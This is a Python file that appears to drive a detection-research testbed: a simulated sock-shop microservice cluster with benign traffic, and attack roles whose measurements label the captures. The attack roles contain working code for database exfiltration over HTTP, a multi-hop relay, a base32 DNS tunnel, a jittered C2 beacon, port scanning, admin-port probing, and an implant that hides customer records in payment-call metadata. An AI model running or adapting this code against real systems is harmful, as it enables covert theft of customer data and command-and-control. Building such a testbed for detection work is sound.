#!/usr/bin/env python3
"""The shop's programs, one role per process (python3 standard library only).

Benign roles: seed-db, catalogue, user, carts, orders, front-end, load-test, recommender
(inside the cluster); payment, upstream-dns, attacker (in the "outside" namespace).
Attack roles: exfil-http, exfil-stream + relay, dns-tunnel, port-scan, beacon, admin-probe;
stealthy-exfil is an implant inside the orders process (class Implant), switched on by a
trigger file. An attack writes its own measurement (first socket operation, end after its
sockets are closed, payload bytes) to its "out" file; the orchestrator turns that into
ground_truth.json.

Usage: shop.py ROLE --conf CONF.json (the orchestrator writes CONF; see orchestrate.py).
"""

import argparse
import base64
import json
import os
import random
import socket
import sys
import threading
import time
from urllib.parse import parse_qs, urlparse

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import netlib  # noqa: E402

FIRST = ["pedro", "james", "ivan", "chloe", "david", "maria", "wei", "amara", "lucas", "sofia", "noah",
         "fatima", "olga", "kenji", "liam", "emma", "aisha", "mateo", "hana", "omar", "nina", "raj",
         "elena", "tom", "yara", "jonas", "ines", "kofi", "lea", "sam"]
LAST = ["ramirez", "perez", "rodriguez", "thompson", "anderson", "schmidt", "chen", "okafor", "silva",
        "rossi", "nguyen", "kowalski", "tanaka", "murphy", "haddad", "novak", "garcia", "khan", "berg",
        "dubois", "ivanova", "moreau", "larsen", "costa", "mensah", "weber", "park", "ali", "lund", "santos"]
COLOURS = ["blue", "green", "red", "black", "white", "grey", "striped", "purple", "yellow", "brown"]
KINDS = ["sock", "ankle sock", "crew sock", "wool sock", "running sock", "hiking sock", "dress sock"]
CITIES = ["Lisbon", "Oslo", "Accra", "Lyon", "Osaka", "Porto", "Krakow", "Austin", "Leeds", "Turin"]


def make_items(seed):
    rng = random.Random(seed * 7 + 1)
    items = []
    for i in range(1, 41):
        items.append({
            "id": i,
            "name": "%s %s" % (rng.choice(COLOURS), rng.choice(KINDS)),
            "price": round(rng.uniform(3, 25), 2),
            "count": rng.randint(0, 500),
            "tag": rng.sample(["sport", "formal", "casual", "winter", "kids", "smelly", "magic"], 2),
            "description": " ".join(rng.choice(["soft", "warm", "cotton", "breathable", "durable",
                                                "colourful", "comfortable", "classic", "bamboo"])
                                    for _ in range(rng.randint(8, 20))),
            "imageUrl": ["/catalogue/images/%d_1.jpg" % i, "/catalogue/images/%d_2.jpg" % i],
        })
    return items


def make_users(seed, n=1500):
    rng = random.Random(seed * 11 + 3)
    users = []
    seen = set()
    while len(users) < n:
        f, l = rng.choice(FIRST), rng.choice(LAST)
        name = "%s.%s%d" % (f, l, rng.randint(1, 99))
        if name in seen:
            continue
        seen.add(name)
        users.append({
            "username": name,
            "firstName": f.title(), "lastName": l.title(),
            "email": "%s@%s" % (name, rng.choice(["mail.example", "post.example", "inbox.example"])),
            "address": {"number": str(rng.randint(1, 250)), "street": "%s Street" % rng.choice(LAST).title(),
                        "city": rng.choice(CITIES), "postcode": "%05d" % rng.randint(1000, 99999)},
            "card": {"longNum": "".join(str(rng.randint(0, 9)) for _ in range(16)),
                     "expires": "%02d/%d" % (rng.randint(1, 12), rng.randint(27, 31)),
                     "ccv": "%03d" % rng.randint(0, 999)},
            "password": "%032x" % rng.getrandbits(128),
        })
    return users


def fqdn(svc, ns="default"):
    return "%s.%s.svc.cluster.local" % (svc, ns)


def jresp(obj, status=200):
    return status, "application/json", json.dumps(obj).encode()


# ---------------------------------------------------------------- cluster services

def role_seed_db(conf):
    """Fill redis over loopback (not on the capture) before the capture starts."""
    r = netlib.Redis(lambda: ("127.0.0.1", 6379))
    for _ in range(100):
        try:
            r.cmd("PING")
            break
        except OSError:
            time.sleep(0.1)
    items = make_items(conf["seed"])
    users = make_users(conf["seed"])
    cmds = [("FLUSHALL",)]
    for it in items:
        cmds.append(("SET", "item:%d" % it["id"], json.dumps(it)))
    cmds.append(("RPUSH", "catalogue:ids") + tuple(it["id"] for it in items))
    for u in users:
        cmds.append(("SET", "user:%s" % u["username"], json.dumps(u)))
    for i in range(0, len(cmds), 200):
        r.pipeline(cmds[i:i + 200])
    print("seeded %d items, %d users" % (len(items), len(users)))


class Service:
    def __init__(self, conf, name):
        self.conf = conf
        self.rng = random.Random("%s/%s/%s" % (conf["seed"], name, conf["bind"]))
        self.res = netlib.Resolver(conf["dns"])
        self.agent = "%s/1.4" % name
        self.name = name
        self._db = None

    def up(self, svc, port=80):
        return netlib.Upstream(self.res, fqdn(svc), port, self.agent, random.Random(self.rng.random()))

    @property
    def db(self):
        if self._db is None:
            self._db = netlib.Redis(lambda: (self.rng.choice(self.res.lookup(fqdn("shop-db"))), 6379))
        return self._db

    def run(self, port, route):
        srv = netlib.serve_http(self.conf["bind"], port, self.agent, route, rng=self.rng)
        netlib.exit_on_term()
        if self.conf.get("admin"):
            adm = netlib.serve_http(self.conf["bind"], self.conf["admin"]["port"], self.agent,
                                    admin_route(self, self.conf["admin"]["kind"]), rng=self.rng)
            threading.Thread(target=adm.serve_forever, kwargs={"poll_interval": 0.2}, daemon=True).start()
        srv.serve_forever(poll_interval=0.2)


def admin_route(s, kind):
    """What a service's admin, metrics or debug port answers (nobody calls it in benign traffic)."""
    started = time.time()

    def route(method, path, body, h):
        if kind == "metrics" and path.startswith("/metrics"):
            lines = ["# HELP http_requests_total Requests served.", "# TYPE http_requests_total counter"]
            lines += ['http_requests_total{service="%s",code="%d"} %d' % (s.name, c, s.rng.randint(100, 9000))
                      for c in (200, 404, 500)]
            lines += ["process_start_time_seconds %.3f" % started, "process_open_fds %d" % s.rng.randint(9, 40)]
            return 200, "text/plain; version=0.0.4", ("\n".join(lines) + "\n").encode()
        if kind == "admin" and path.startswith("/admin"):
            return jresp({"service": s.name, "db": "shop-db.default.svc.cluster.local:6379", "debug": False,
                          "build": "1.4.%d" % s.rng.randint(0, 30), "uptime_s": round(time.time() - started)})
        if kind == "pprof" and path.startswith("/debug/pprof"):
            text = "goroutine profile: total %d\n" % s.rng.randint(8, 30)
            text += "".join("1 @ 0x%x 0x%x\n#\t0x%x\tmain.handler+0x%x\n" % tuple(
                s.rng.getrandbits(32) for _ in range(4)) for _ in range(6))
            return 200, "text/plain; charset=utf-8", text.encode()
        return jresp({"error": "no route"}, 404)

    return route


def role_catalogue(conf):
    s = Service(conf, "catalogue")

    def route(method, path, body, h):
        u = urlparse(path)
        if u.path == "/catalogue":
            size = int(parse_qs(u.query).get("size", ["6"])[0])
            ids = s.db.cmd("LRANGE", "catalogue:ids", 0, -1)
            pick = s.rng.sample(ids, min(size, len(ids)))
            vals = s.db.cmd("MGET", *[b"item:" + i for i in pick])
            return jresp([json.loads(v) for v in vals if v])
        if u.path.startswith("/catalogue/"):
            v = s.db.cmd("GET", "item:%s" % u.path.rsplit("/", 1)[1])
            return jresp(json.loads(v)) if v else jresp({"error": "not found"}, 404)
        if u.path == "/health":
            return jresp({"status": "OK"})
        return jresp({"error": "no route"}, 404)

    s.run(80, route)


def role_user(conf):
    s = Service(conf, "user")

    def get(name):
        v = s.db.cmd("GET", "user:%s" % name)
        return json.loads(v) if v else None

    def route(method, path, body, h):
        u = urlparse(path)
        if u.path == "/login" and method == "POST":
            req = json.loads(body or b"{}")
            usr = get(req.get("username", ""))
            if not usr:
                return jresp({"error": "unknown user"}, 401)
            return jresp({"user": {k: usr[k] for k in ("username", "firstName", "lastName", "email")},
                          "token": "%032x" % s.rng.getrandbits(128)})
        parts = u.path.strip("/").split("/")
        if len(parts) == 3 and parts[0] == "customers":
            usr = get(parts[1])
            if not usr:
                return jresp({"error": "unknown user"}, 404)
            if parts[2] == "address":
                return jresp(usr["address"])
            if parts[2] == "card":
                return jresp(usr["card"])
        return jresp({"error": "no route"}, 404)

    s.run(80, route)


def role_carts(conf):
    s = Service(conf, "carts")
    cat = s.up("catalogue")

    def route(method, path, body, h):
        parts = urlparse(path).path.strip("/").split("/")
        if len(parts) >= 2 and parts[0] == "carts":
            key = "cart:%s" % parts[1]
            if method == "GET":
                return jresp([json.loads(x) for x in s.db.cmd("LRANGE", key, 0, -1)])
            if method == "POST":
                req = json.loads(body or b"{}")
                st, data = cat.request("GET", "/catalogue/%s" % req.get("itemId", 1))
                if st != 200:
                    return jresp({"error": "catalogue unavailable"}, 503)
                it = json.loads(data)
                line = {"itemId": it["id"], "quantity": req.get("quantity", 1), "unitPrice": it["price"]}
                s.db.cmd("RPUSH", key, json.dumps(line))
                return jresp(line, 201)
            if method == "DELETE":
                s.db.cmd("DEL", key)
                return jresp({"deleted": parts[1]}, 202)
        return jresp({"error": "no route"}, 404)

    s.run(80, route)


class Implant:
    """stealthy-exfil: code injected into the orders process. Once its trigger file appears it
    reads customer records from shop-db over orders' own redis connections and sends them,
    at a paced rate, inside the "metadata" field of orders' payment calls: in the real
    charges, and in extra charges over the same pooled connections when none is due."""

    def __init__(self, trigger, s, pay):
        self.trigger, self.s, self.pay = trigger, s, pay
        self.lock = threading.Lock()
        self.active = False
        threading.Thread(target=self._run, daemon=True).start()

    def take(self):
        """The records due now (rate x elapsed minus what was sent), for one request body."""
        with self.lock:
            if not self.active:
                return ""
            due = int(self.rate * (time.time() - self.start)) - self.sent
            if due <= 0:
                return ""
            while len(self.buf) < due and self.keys:
                batch, self.keys = self.keys[:25], self.keys[25:]
                vals = self.s.db.cmd("MGET", *batch)
                self.buf += "".join("%s\t%s\n" % (k.decode(), (v or b"").decode()) for k, v in zip(batch, vals))
            chunk, self.buf = self.buf[:due], self.buf[due:]
            self.sent += len(chunk.encode())
            self.carriers += 1
            return chunk

    def _run(self):
        while not os.path.exists(self.trigger):
            time.sleep(0.2)
        time.sleep(0.2)  # the orchestrator writes the file atomically; settle anyway
        cfg = json.load(open(self.trigger))
        rng = random.Random("%s/implant" % self.s.conf["seed"])
        with self.lock:
            self.start = time.time()
            self.keys = sorted(self.s.db.cmd("KEYS", "user:*"))
            self.rate, self.buf, self.sent, self.carriers = cfg["rate"], "", 0, 0
            self.active = True
        extra = 0
        while time.time() - self.start < cfg["duration"]:
            time.sleep(cfg["period"] * rng.uniform(0.7, 1.3))
            loot = self.take()
            if loot:
                amount = round(rng.uniform(5, 80), 2)
                self.pay.request("POST", "/v1/charge", {"amount": amount, "currency": "EUR",
                                                        "card": "%04d" % rng.randint(0, 9999), "metadata": loot})
                extra += 1
        with self.lock:
            self.active = False
            out = {"start": self.start, "end": time.time(), "bytes": self.sent, "requests": self.carriers,
                   "extra_requests": extra, "piggybacked_requests": self.carriers - extra}
        netlib.write_json(cfg["out"], out)


def role_orders(conf):
    s = Service(conf, "orders")
    user, carts = s.up("user"), s.up("carts")
    pay = netlib.Upstream(s.res, "api.paygate.example", 80, s.agent, random.Random(s.rng.random()),
                          max_age=(3, 8), max_reqs=(1, 4))
    implant = Implant(conf["implant_file"], s, pay) if conf.get("implant_file") else None

    def route(method, path, body, h):
        if urlparse(path).path == "/orders" and method == "POST":
            name = json.loads(body or b"{}").get("customer", "")
            _, addr = user.request("GET", "/customers/%s/address" % name)
            _, card = user.request("GET", "/customers/%s/card" % name)
            st, items = carts.request("GET", "/carts/%s/items" % name)
            lines = json.loads(items) if st == 200 else []
            total = round(sum(x["unitPrice"] * x["quantity"] for x in lines) + 4.99, 2)
            charge = {"amount": total, "currency": "EUR", "card": json.loads(card or b"{}").get("longNum", "")[-4:]}
            loot = implant.take() if implant else ""
            if loot:
                charge["metadata"] = loot
            st, auth = pay.request("POST", "/v1/charge", charge)
            if st != 200:
                return jresp({"error": "payment declined"}, 402)
            order = {"id": "%024x" % s.rng.getrandbits(96), "customer": name, "items": lines, "total": total,
                     "address": json.loads(addr or b"{}"), "payment": json.loads(auth), "date": time.time()}
            s.db.pipeline([("RPUSH", "orders:%s" % name, json.dumps(order)), ("INCR", "orders:count")])
            carts.request("DELETE", "/carts/%s" % name)
            return jresp(order, 201)
        return jresp({"error": "no route"}, 404)

    s.run(80, route)


def role_recommender(conf):
    """The service deployed mid-capture in new-service: picks items for a customer from the
    catalogue, weighted by the customer's city (asks user)."""
    s = Service(conf, "recommender")
    cat, user = s.up("catalogue"), s.up("user")

    def route(method, path, body, h):
        u = urlparse(path)
        if u.path == "/recommendations":
            name = parse_qs(u.query).get("user", [""])[0]
            city = ""
            if name:
                st, data = user.request("GET", "/customers/%s/address" % name)
                city = json.loads(data).get("city", "") if st == 200 else ""
            st, data = cat.request("GET", "/catalogue?size=4")
            items = json.loads(data) if st == 200 else []
            r = random.Random(city + name)
            r.shuffle(items)
            return jresp([{"id": i["id"], "name": i["name"], "price": i["price"]} for i in items[:3]])
        return jresp({"error": "no route"}, 404)

    s.run(80, route)


PAGE = "<!DOCTYPE html><html><head><title>Socks shop</title><link rel=stylesheet href=/css/style.css></head><body>%s</body></html>"


def role_front_end(conf):
    s = Service(conf, "front-end")
    cat, user, carts, orders = s.up("catalogue"), s.up("user"), s.up("carts"), s.up("orders")
    rec = s.up("recommender")
    flag = conf.get("feature_file")

    def recommend(username=""):
        """After the recommender is deployed its feature flag turns on (a file the orchestrator
        writes); before that the front-end never resolves or calls it."""
        if not flag or not os.path.exists(flag):
            return ""
        st, data = rec.request("GET", "/recommendations?user=%s" % username)
        if st != 200:
            return ""
        return "<aside>%s</aside>" % "".join("<a href=/detail?id=%d>%s</a>" % (i["id"], i["name"])
                                            for i in json.loads(data))

    def html(body, status=200):
        return status, "text/html; charset=utf-8", (PAGE % body).encode()

    def route(method, path, body, h):
        u = urlparse(path)
        q = parse_qs(u.query)
        req = json.loads(body) if body else {}
        if u.path == "/" and method == "GET":
            st, data = cat.request("GET", "/catalogue?size=6")
            items = json.loads(data) if st == 200 else []
            return html("".join("<div class=product><img src=%s><h3>%s</h3><p>%s</p><b>%.2f</b></div>"
                                % (i["imageUrl"][0], i["name"], i["description"], i["price"]) for i in items)
                        + recommend())
        if u.path == "/detail":
            st, data = cat.request("GET", "/catalogue/%s" % q.get("id", ["1"])[0])
            if st != 200:
                return html("<h1>not found</h1>", 404)
            i = json.loads(data)
            return html("<h1>%s</h1><p>%s</p><b>%.2f</b><ul>%s</ul>" % (
                i["name"], i["description"], i["price"], "".join("<li>%s</li>" % t for t in i["tag"])))
        if u.path == "/login" and method == "POST":
            st, data = user.request("POST", "/login", {"username": req.get("username", "")})
            return st, "application/json", data
        if u.path == "/basket" and method == "POST":
            st, data = carts.request("POST", "/carts/%s/items" % req.get("username", ""),
                                     {"itemId": req.get("id", 1), "quantity": 1})
            return st, "application/json", data
        if u.path == "/basket" and method == "GET":
            st, data = carts.request("GET", "/carts/%s/items" % q.get("username", [""])[0])
            recommend(q.get("username", [""])[0])
            return st, "application/json", data
        if u.path == "/checkout" and method == "POST":
            st, data = orders.request("POST", "/orders", {"customer": req.get("username", "")})
            return st, "application/json", data
        return html("<h1>no route</h1>", 404)

    s.run(8080, route)


def role_load_test(conf):
    """Virtual users browsing the shop through the front-end service name."""
    netlib.exit_on_term()
    users = [u["username"] for u in make_users(conf["seed"])]
    res = netlib.Resolver(conf["dns"])
    deadline = conf["deadline"]
    agent = "loadgen/1.4"

    def think(rng):
        time.sleep(min(6.0, max(0.3, rng.expovariate(1 / conf.get("think", 2.0)))))

    def vu(k):
        rng = random.Random("%s/vu/%d" % (conf["seed"], k))
        fe = netlib.Upstream(res, fqdn("front-end"), 8080, agent, random.Random(rng.random()))
        time.sleep(rng.uniform(0, 1))
        while time.time() < deadline:
            name = rng.choice(users)
            fe.request("GET", "/")
            think(rng)
            fe.request("POST", "/login", {"username": name})
            think(rng)
            for _ in range(rng.randint(1, 4)):
                item = rng.randint(1, 40)
                fe.request("GET", "/detail?id=%d" % item)
                think(rng)
                if rng.random() < 0.5:
                    fe.request("POST", "/basket", {"username": name, "id": item})
                    think(rng)
            fe.request("GET", "/basket?username=%s" % name)
            think(rng)
            if rng.random() < 0.35:
                fe.request("POST", "/checkout", {"username": name})
                think(rng)

    threads = [threading.Thread(target=vu, args=(k,), daemon=True) for k in range(conf["virtual_users"])]
    for t in threads:
        t.start()
    while time.time() < deadline and any(t.is_alive() for t in threads):
        time.sleep(0.2)
    os._exit(0)


# ---------------------------------------------------------------- outside hosts

def role_payment(conf):
    rng = random.Random("%s/payment" % conf["seed"])

    c2 = open(conf["c2_log"], "a", buffering=1) if conf.get("c2_log") else None

    def route(method, path, body, h):
        if c2 and urlparse(path).path == "/cdn-cgi/rum" and method == "POST":
            # beacon: the C2 answers each check-in with a small task list (usually "sleep")
            c2.write(json.dumps({"t": time.time(), "peer": h.client_address[0], "bytes": len(body)}) + "\n")
            task = {"task": "sleep", "jitter": 0.25, "id": "%016x" % rng.getrandbits(64),
                    "cfg": "%0128x" % rng.getrandbits(512)}
            return jresp(task)
        if urlparse(path).path == "/v1/charge" and method == "POST":
            req = json.loads(body or b"{}")
            return jresp({"id": "ch_%020x" % rng.getrandbits(80), "status": "approved",
                          "amount": req.get("amount"), "currency": req.get("currency", "EUR")})
        return jresp({"error": "no route"}, 404)

    srv = netlib.serve_http(conf["bind"], 80, "paygate/2.3", route, idle=(4, 6), rng=rng)
    netlib.exit_on_term()
    srv.serve_forever(poll_interval=0.2)


def udp_dns_server(bind, answer):
    """Serve UDP DNS on bind:53; answer(msg) -> (answers, rcode)."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((bind, 53))
    while True:
        data, peer = s.recvfrom(4096)
        try:
            m = netlib.parse_message(data)
            answers, rcode = answer(m, peer)
            s.sendto(netlib.build_response(data, answers, rcode), peer)
        except (ValueError, IndexError, OSError):
            continue


def role_upstream_dns(conf):
    """The benign upstream resolver kube-dns forwards external names to."""
    netlib.exit_on_term()
    zone = {"api.paygate.example": "198.51.100.20"}

    def answer(m, peer):
        ip = zone.get(m["qname"].lower())
        if ip is None:
            return [], 3
        if m["qtype"] == netlib.QTYPE_A:
            return [(netlib.QTYPE_A, 60, socket.inet_aton(ip))], 0
        return [], 0

    udp_dns_server(conf["bind"], answer)


def role_attacker(conf):
    """Attacker host: HTTP sinks on tcp/80 and tcp/8443, authoritative DNS for t.cdn-sync.net.
    Logs what it receives to conf["log"] (one JSON line per request or query)."""
    netlib.exit_on_term()
    log = open(conf["log"], "a", buffering=1)
    lock = threading.Lock()

    def note(**kw):
        kw["t"] = time.time()
        with lock:
            log.write(json.dumps(kw) + "\n")

    def route_for(port):
        def route(method, path, body, h):
            note(kind="http", port=port, peer=h.client_address[0], path=path, bytes=len(body))
            return jresp({"ok": True, "received": len(body)})
        return route

    for port in (80, 8443):
        srv = netlib.serve_http(conf["bind"], port, "nginx", route_for(port), idle=(30, 30))
        threading.Thread(target=srv.serve_forever, kwargs={"poll_interval": 0.2}, daemon=True).start()

    zone = "t.cdn-sync.net"

    def answer(m, peer):
        name = m["qname"].lower()
        if not (name == zone or name.endswith("." + zone)):
            return [], 5  # REFUSED: not our zone
        labels = name[:-len(zone) - 1].split(".") if name != zone else []
        data = "".join(labels[1:])
        try:
            raw = base64.b32decode(data.upper() + "=" * (-len(data) % 8)) if data else b""
        except ValueError:
            raw = b""
        note(kind="dns", peer=peer[0], qname_len=len(name), bytes=len(raw))
        if m["qtype"] == netlib.QTYPE_A:
            return [(netlib.QTYPE_A, 0, socket.inet_aton(conf["bind"]))], 0
        return [], 0

    udp_dns_server(conf["bind"], answer)


# ---------------------------------------------------------------- attacks

def db_dump():
    """What an intruder on the database pod reads: every record, as JSON lines (over loopback)."""
    r = netlib.Redis(lambda: ("127.0.0.1", 6379))
    keys = sorted(r.cmd("KEYS", "user:*")) + sorted(r.cmd("KEYS", "item:*"))
    out = []
    for i in range(0, len(keys), 200):
        vals = r.cmd("MGET", *keys[i:i + 200])
        out += [k + b"\t" + (v or b"") for k, v in zip(keys[i:i + 200], vals)]
    return b"\n".join(out) + b"\n"


def paced_chunks(rng, data, rate, period, duration):
    """Yield (due_time_offset, chunk): about rate*period bytes every period seconds."""
    off, k = 0, 0
    while k * period <= duration and off < len(data):
        n = max(1, int(rng.gauss(rate * period, rate * period * 0.08)))
        yield k * period, data[off:off + n]
        off += n
        k += 1


def recv_until_eof(sock, timeout=3.0):
    sock.settimeout(timeout)
    try:
        while sock.recv(65536):
            pass
    except OSError:
        pass


def http_post(sock, f, host, path, body, agent):
    head = ("POST %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nContent-Type: application/octet-stream\r\n"
            "Content-Length: %d\r\nConnection: keep-alive\r\n\r\n" % (path, host, agent, len(body))).encode()
    sock.sendall(head + body)
    status = f.readline()
    n = 0
    while True:
        line = f.readline()
        if line in (b"\r\n", b""):
            break
        if line.lower().startswith(b"content-length:"):
            n = int(line.split(b":")[1])
    f.read(n)
    return status


def role_exfil_http(conf):
    """Direct exfiltration: the database pod POSTs its records to the attacker's sink."""
    rng = random.Random("%s/exfil" % conf["seed"])
    data = db_dump()
    start = time.time()
    s = socket.create_connection((conf["dst_ip"], conf["dst_port"]), timeout=10)
    f = s.makefile("rb")
    sent = reqs = 0
    for due, chunk in paced_chunks(rng, data, conf["rate"], conf["period"], conf["duration"]):
        time.sleep(max(0.0, start + due - time.time()))
        http_post(s, f, conf["dst_ip"], "/api/v2/telemetry/upload", chunk, "python-requests/2.31.0")
        sent += len(chunk)
        reqs += 1
    s.shutdown(socket.SHUT_WR)
    recv_until_eof(s)
    s.close()
    end = time.time()
    netlib.write_json(conf["out"], {"start": start, "end": end, "bytes": sent, "requests": reqs})


def role_exfil_stream(conf):
    """First hop of the multi-hop exfiltration: the database pod streams records to an
    implant listening on a new port of a catalogue pod."""
    rng = random.Random("%s/stream" % conf["seed"])
    data = db_dump()
    start = time.time()
    s = socket.create_connection((conf["dst_ip"], conf["dst_port"]), timeout=10)
    sent = 0
    for due, chunk in paced_chunks(rng, data, conf["rate"], conf["period"], conf["duration"]):
        time.sleep(max(0.0, start + due - time.time()))
        s.sendall(chunk)
        sent += len(chunk)
    s.shutdown(socket.SHUT_WR)
    recv_until_eof(s, timeout=15)  # the relay closes after flushing to the attacker
    s.close()
    end = time.time()
    netlib.write_json(conf["out"], {"start": start, "end": end, "bytes": sent})


def role_relay(conf):
    """Implant on a catalogue pod: accepts one stream and relays it to attacker:8443 by HTTP POST."""
    netlib.exit_on_term()
    ls = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind((conf["bind"], conf["listen_port"]))
    ls.listen(1)
    c, peer = ls.accept()
    accepted = time.time()
    buf = bytearray()
    lock = threading.Lock()
    done = threading.Event()
    received = 0

    def reader():
        nonlocal received
        while True:
            d = c.recv(65536)
            if not d:
                break
            with lock:
                buf.extend(d)
                received += len(d)
        done.set()

    threading.Thread(target=reader, daemon=True).start()
    up = None
    f = None
    forwarded = reqs = 0
    first_up = None
    while True:
        finished = done.wait(conf["period"])
        with lock:
            chunk = bytes(buf)
            buf.clear()
        if chunk:
            if up is None:
                first_up = time.time()
                up = socket.create_connection((conf["dst_ip"], conf["dst_port"]), timeout=10)
                f = up.makefile("rb")
            http_post(up, f, "sync.cdn-sync.net", "/v1/blob", chunk, "curl/8.5.0")
            forwarded += len(chunk)
            reqs += 1
        if finished and not buf:
            break
    if up is not None:
        up.shutdown(socket.SHUT_WR)
        recv_until_eof(up)
        up.close()
    c.close()  # tells the sender everything was relayed
    end = time.time()
    netlib.write_json(conf["out"], {"accepted": accepted, "first_upstream": first_up, "end": end,
                                    "bytes_in": received, "bytes_out": forwarded, "requests": reqs,
                                    "peer": peer[0]})
    os._exit(0)


def role_dns_tunnel(conf):
    """DNS tunnel: records base32-encoded in query names under t.cdn-sync.net, sent to kube-dns."""
    rng = random.Random("%s/tunnel" % conf["seed"])
    data = db_dump()
    per_q = conf["bytes_per_query"]
    interval = per_q / conf["rate"]
    start = time.time()
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1.0)
    sent = queries = answered = 0
    off = 0
    sid = "%04x" % rng.getrandbits(16)
    while time.time() - start < conf["duration"] and off < len(data):
        due = start + queries * interval
        time.sleep(max(0.0, due - time.time()))
        chunk = data[off:off + per_q]
        enc = base64.b32encode(chunk).decode().rstrip("=").lower()
        labels = [enc[i:i + conf["label_len"]] for i in range(0, len(enc), conf["label_len"])]
        name = ".".join(["%s%05x" % (sid, queries)] + labels + ["t", "cdn-sync", "net"])
        qid = rng.randrange(65536)
        s.sendto(netlib.build_query(qid, name, netlib.QTYPE_A), (conf["dns"], 53))
        off += len(chunk)
        sent += len(chunk)
        queries += 1
        try:
            while True:
                d, _ = s.recvfrom(4096)
                if netlib.parse_message(d)["id"] == qid:
                    answered += 1
                    break
        except (socket.timeout, ValueError):
            pass
    s.close()
    end = time.time()
    netlib.write_json(conf["out"], {"start": start, "end": end, "bytes": sent, "queries": queries,
                                    "answered": answered})


def role_port_scan(conf):
    """TCP connect scan of a few pods, ports shuffled per host, paced to a probe rate."""
    rng = random.Random("%s/scan" % conf["seed"])
    probes = []
    for host in conf["hosts"]:
        ports = list(range(conf["port_lo"], conf["port_hi"] + 1))
        rng.shuffle(ports)
        probes += [(host, p) for p in ports]
    interval = 1.0 / conf["rate"]
    start = time.time()
    open_ports = []
    for k, (host, port) in enumerate(probes):
        time.sleep(max(0.0, start + k * interval - time.time()))
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(1.0)
        try:
            if s.connect_ex((host, port)) == 0:
                open_ports.append("%s:%d" % (host, port))
                s.shutdown(socket.SHUT_WR)
                recv_until_eof(s, timeout=1.0)
        except OSError:
            pass
        s.close()
    end = time.time()
    netlib.write_json(conf["out"], {"start": start, "end": end, "bytes": 0, "probes": len(probes),
                                    "open": open_ports})


def role_beacon(conf):
    """C2 beacon: a new connection every mean +- jitter seconds, a small POST (host info and
    a sequence number) and a small answer, to the host that also serves the payment API."""
    rng = random.Random("%s/beacon" % conf["seed"])
    hostid = "%032x" % rng.getrandbits(128)
    start = time.time()
    times, sent, recv = [], 0, 0
    while True:
        t = time.time()
        s = socket.create_connection((conf["dst_ip"], conf["dst_port"]), timeout=10)
        times.append(t)
        f = s.makefile("rb")
        body = json.dumps({"h": hostid, "seq": len(times), "u": "orders", "os": "linux/amd64",
                           "pad": "%0*x" % (rng.randint(40, 120), rng.getrandbits(480))}).encode()
        head = ("POST %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n"
                "Content-Type: application/json\r\nContent-Length: %d\r\nConnection: close\r\n\r\n"
                % (conf["path"], conf["host"], len(body))).encode()
        s.sendall(head + body)
        sent += len(body)
        f.readline()
        n = 0
        while True:
            line = f.readline()
            if line in (b"\r\n", b""):
                break
            if line.lower().startswith(b"content-length:"):
                n = int(line.split(b":")[1])
        recv += len(f.read(n))
        s.shutdown(socket.SHUT_WR)
        recv_until_eof(s)  # the server closes too (Connection: close); our last ACK goes out first
        s.close()
        gap = conf["mean"] * rng.uniform(1 - conf["jitter"], 1 + conf["jitter"])
        if time.time() + gap - start > conf["duration"]:
            break
        time.sleep(max(0.0, t + gap - time.time()))
    time.sleep(0.2)  # the kernel's last ACKs of the closed connection
    end = time.time()
    netlib.write_json(conf["out"], {"start": start, "end": end, "bytes": sent, "bytes_in": recv,
                                    "count": len(times), "times": times,
                                    "intervals": [round(b - a, 3) for a, b in zip(times, times[1:])]})


def role_admin_probe(conf):
    """Lateral movement: a compromised pod tries admin, metrics and debug ports of services it
    legitimately calls, a few connections a minute; where one answers it asks for a page."""
    rng = random.Random("%s/probe" % conf["seed"])
    targets = [tuple(t) for t in conf["targets"]]  # (ip, port, path)
    plan = list(targets)
    rng.shuffle(plan)
    while len(plan) < conf["probes"]:
        plan.append(rng.choice(targets))
    start = time.time()
    log, sent = [], 0
    due = start
    for ip, port, path in plan:
        time.sleep(max(0.0, due - time.time()))
        t = time.time()
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(3.0)
        got, ok = 0, False
        try:
            ok = s.connect_ex((ip, port)) == 0
            if ok:
                req = ("GET %s HTTP/1.1\r\nHost: %s:%d\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n"
                       "Connection: close\r\n\r\n" % (path, ip, port)).encode()
                s.sendall(req)
                sent += len(req)
                s.settimeout(3.0)
                while True:
                    d = s.recv(65536)
                    if not d:
                        break
                    got += len(d)
        except OSError:
            pass  # refused connects return an errno; a reset mid-read ends the probe
        s.close()
        log.append({"t": t, "ip": ip, "port": port, "path": path, "open": bool(ok), "bytes_in": got})
        due = t + conf["gap"] * rng.uniform(1 - conf["jitter"], 1 + conf["jitter"])
    time.sleep(0.2)  # the kernel's last ACKs of the closed connection
    end = time.time()
    netlib.write_json(conf["out"], {"start": start, "end": end, "bytes": sent, "probes": len(log), "log": log})


ROLES = {
    "seed-db": role_seed_db, "catalogue": role_catalogue, "user": role_user, "carts": role_carts,
    "orders": role_orders, "front-end": role_front_end, "load-test": role_load_test,
    "payment": role_payment, "upstream-dns": role_upstream_dns, "attacker": role_attacker,
    "exfil-http": role_exfil_http, "exfil-stream": role_exfil_stream, "relay": role_relay,
    "dns-tunnel": role_dns_tunnel, "port-scan": role_port_scan, "recommender": role_recommender,
    "beacon": role_beacon, "admin-probe": role_admin_probe,
}


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("role", choices=sorted(ROLES))
    ap.add_argument("--conf", required=True, help="JSON file with this process's settings")
    a = ap.parse_args()
    with open(a.conf) as f:
        conf = json.load(f)
    ROLES[a.role](conf)


if __name__ == "__main__":
    main()
